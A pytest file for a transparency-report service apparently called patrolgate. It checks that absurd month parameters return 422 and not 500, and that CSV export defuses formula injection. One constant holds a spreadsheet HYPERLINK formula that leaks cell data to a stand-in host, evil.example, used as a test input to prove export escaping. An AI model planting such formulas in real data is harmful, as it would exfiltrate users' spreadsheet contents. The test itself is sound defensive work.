"""The public pages, tried anonymously as an attacker would: an absurd month answers 4xx,
and the CSV carries no spreadsheet formula from imported names or outcome names."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update
from world import World, build_world, scenario

from patrolgate.csv_export import FORMULA_PREFIXES
from patrolgate.settings import Settings
from patrolgate.store import Database
from patrolgate.store.tables import AreaRow

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Lambeth")'


@pytest.fixture
def world(settings: Settings, database: Database) -> World:
    """The API tests' small world."""
    return build_world(settings, database)


@pytest.mark.parametrize("month", ["9999-12", "0000-01", "1899-12", "2026-13", "26-06"])
def test_an_absurd_month_is_invalid_input_for_everyone(world: World, month: str) -> None:
    """Anonymous ``?month=9999-12`` and the like: 422 problem details (an error page for a
    browser), never a 500, on the page, the CSV and the JSON."""
    client = world.client()
    for path in ("/transparency", "/transparency.csv", "/transparency.json"):
        response = client.get(path, params={"month": month})
        assert response.status_code == 422, (path, response.text[:300])
        assert response.headers["content-type"] == "application/problem+json"
        page = client.get(path, params={"month": month}, headers={"Accept": "text/html"})
        assert page.status_code == 422, (path, page.text[:300])
        assert page.headers["content-type"].startswith("text/html")


def test_the_last_and_first_months_a_report_covers_answer(world: World) -> None:
    """1900-01 and 9998-12 are months like any other: empty reports, 200."""
    client = world.client()
    for month in ("1900-01", "9998-12"):
        response = client.get("/transparency.json", params={"month": month})
        assert response.status_code == 200, response.text
        assert response.json()["month"] == month
        assert response.json()["boroughs"] == []


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_the_csv_carries_no_formula_from_imported_names(world: World) -> None:
    """A borough imported as ``=HYPERLINK(...)`` and a debrief outcome named ``@SUM(...)``:
    in ``/transparency.csv`` neither starts a cell, yet both are there, as text."""
    with world.database.transaction() as session:
        session.execute(
            update(AreaRow).where(AreaRow.code == scenario.LAMBETH).values(name=FORMULA)
        )
    deployment = world.ready_deployment(start_in=0.5, hours=2)
    world.workflow.authorise(
        "sfc.adams", deployment, grounds="Reliable intelligence of imminent harm."
    )
    world.clock.advance(hours=3)
    world.workflow.sweep()
    outcome = "-1+1"
    world.workflow.debrief(
        "proposer1", deployment, scenario.debrief(outcomes={outcome: 3, "arrests": 1})
    )
    response = world.client().get("/transparency.csv", params={"month": "2026-06"})
    assert response.status_code == 200, response.text
    cells = _cells(response.text)
    assert [c for c in cells if c.lstrip(" ").startswith(FORMULA_PREFIXES)] == []
    assert "'" + FORMULA in cells
    assert any(f"{outcome}: 3" in cell for cell in cells)
